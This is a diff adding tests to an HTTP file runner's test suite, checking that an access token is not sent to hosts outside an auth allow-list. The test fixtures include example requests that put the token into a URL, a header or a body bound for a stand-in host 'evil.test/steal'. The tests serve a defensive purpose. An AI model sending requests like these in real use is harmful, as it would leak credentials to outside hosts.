@@ -126,4 +126,42 @@ describe('file runner: secrets and $aio.accessToken', () => {
     assert.match(runs[0].result.error!.message, /invalid_client/);
     assert.deepEqual(sender.sent.map((r) => r.url), ['https://platform.adobe.io/b']);
   });
+
+  it('refuses {{$aio.accessToken}} for a host outside the auth allow-list, in URL, header or body', async () => {
+    const file = parseHttpFile([
+      'GET https://evil.test/steal\nX-T: {{$aio.accessToken}}',
+      'GET https://evil.test/steal?t={{$aio.accessToken}}',
+      'POST https://evil.test/steal\nContent-Type: text/plain\n\n{{$aio.accessToken}}',
+      'GET http://platform.adobe.io/plain-http\nX-T: {{$aio.accessToken}}',
+      'GET https://platform.adobe.io/ok\nX-T: {{$aio.accessToken}}\nX-K: {{$aio.apiKey}}',
+      'GET https://evil.test/key-is-public\nX-K: {{$aio.apiKey}}',
+    ].join('\n\n###\n'));
+    const sender = new RecordingSender();
+    const asked: string[] = [];
+    const aioVariable = async (name: string): Promise<string> => {
+      asked.push(name);
+      return name === 'accessToken' ? 'tok-secret' : 'client-id';
+    };
+    const runs = await runHttpFile(file, sender, { context: { aioVariable } });
+    for (const run of runs.slice(0, 4)) {
+      assert.equal(run.sent, false);
+      assert.equal(run.result.error?.kind, 'auth');
+      assert.match(run.result.error!.message, /(evil\.test|platform\.adobe\.io).*--auth-host.*aioRequests\.authHosts/s);
+    }
+    assert.deepEqual(sender.sent.map((r) => r.url), ['https://platform.adobe.io/ok', 'https://evil.test/key-is-public']);
+    assert.deepEqual(sender.sent[0].headers, [['X-T', 'tok-secret'], ['X-K', 'client-id']]);
+    assert.ok(!sender.sent.some((r) => r.url.includes('tok-secret')));
+    // A token is fetched only where the URL could not be checked first (the token sits in the URL) or is allowed.
+    assert.equal(asked.filter((n) => n === 'accessToken').length, 2);
+  });
+
+  it('sends {{$aio.accessToken}} to a host the caller allowed', async () => {
+    const file = parseHttpFile('GET http://127.0.0.1:9/emulator\nX-T: {{$aio.accessToken}}\n');
+    const sender = new RecordingSender();
+    const aioVariable = async (): Promise<string> => 'tok-secret';
+    const refused = await runHttpFile(file, sender, { context: { aioVariable } });
+    assert.equal(refused[0].result.error?.kind, 'auth');
+    await runHttpFile(file, sender, { context: { aioVariable, authHosts: ['127.0.0.1:9'] } });
+    assert.deepEqual(sender.sent.map((r) => r.headers), [[['X-T', 'tok-secret']]]);
+  });
 });
